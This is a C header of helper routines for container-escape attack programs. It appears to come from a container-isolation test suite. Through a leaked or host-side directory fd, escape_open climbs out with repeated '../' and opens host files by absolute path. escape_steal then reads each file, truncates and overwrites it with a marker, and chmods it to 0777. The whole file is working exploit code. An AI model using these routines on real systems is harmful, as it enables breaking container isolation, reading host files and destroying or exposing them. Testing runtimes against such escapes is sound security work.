/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Shared by the attack programs: given a directory fd that may belong to the
 * host (a leaked fd, or the cwd of a process that started in one), climb out
 * with ".." and open a host file by its absolute path. Inside the container
 * the ".." stop at the container's root, where the host path does not exist,
 * so success means the directory was outside the container.
 */
#pragma once

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* What the attack leaves in a host file it could open. */
#define ESCAPE_MARK "written from inside the container\n"

static inline int escape_open(int dirfd, const char *host_path, int flags)
{
        char p[4096];
        size_t n = 0;
        for (int i = 0; i < 40; i++)
                n += (size_t)snprintf(p + n, sizeof(p) - n, "../");
        while (*host_path == '/')
                host_path++;
        snprintf(p + n, sizeof(p) - n, "%s", host_path);
        return openat(dirfd, p, flags | O_NOFOLLOW | O_CLOEXEC);
}

/*
 * Read the host file through dirfd, then overwrite it and make it mode 0777.
 * Reports on stdout ("ESCAPED via HOW: read '...'"); returns 1 on escape.
 */
static inline int escape_steal(int dirfd, const char *host_path, const char *how)
{
        int fd = escape_open(dirfd, host_path, O_RDWR);
        if (fd < 0)
                return 0;
        char buf[256];
        ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);
        buf[n > 0 ? n : 0] = '\0';
        buf[strcspn(buf, "\n")] = '\0';
        printf("ESCAPED via %s: read '%s' from the host's %s\n", how, buf, host_path);
        if (ftruncate(fd, 0) == 0 && pwrite(fd, ESCAPE_MARK, strlen(ESCAPE_MARK), 0) > 0)
                printf("ESCAPED via %s: wrote the host's %s\n", how, host_path);
        if (fchmod(fd, 0777) == 0)
                printf("ESCAPED via %s: chmod 0777 the host's %s\n", how, host_path);
        fflush(stdout);
        close(fd);
        return 1;
}
